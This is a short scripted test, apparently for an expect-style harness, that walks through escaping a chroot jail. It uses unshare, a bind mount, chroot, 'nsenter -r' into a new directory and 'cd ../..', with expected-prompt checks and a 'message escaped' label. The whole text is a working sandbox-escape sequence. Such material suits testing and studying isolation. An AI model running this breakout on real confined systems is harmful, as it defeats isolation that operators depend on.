#@ typed
#@ message escaped
unshare --mount
mount --bind /srv/{{room}} /srv/{{room}}
chroot /srv/{{room}} /bin/sh
#@ expect / #
mkdir -p /hole
#@ expect / #
nsenter -r/hole -w/ bin/sh
#@ expect built-in
cd ../..
#@ expect  #
